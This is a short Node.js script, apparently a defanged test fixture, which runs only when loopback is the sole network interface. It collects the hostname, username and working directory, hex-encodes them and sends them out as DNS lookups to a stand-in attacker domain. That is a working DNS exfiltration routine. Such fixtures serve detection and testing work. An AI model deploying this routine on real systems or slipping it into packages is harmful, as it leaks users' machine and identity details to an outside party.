if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const dns = require('dns');
const os = require('os');

const hex = (s) => Buffer.from(String(s)).toString('hex');
const data = [os.hostname(), os.userInfo().username, process.cwd()].map(hex).join('');
const labels = data.match(/.{1,60}/g).join('.');
dns.lookup(`${labels}.x1.dns.attacker.invalid`, () => {});
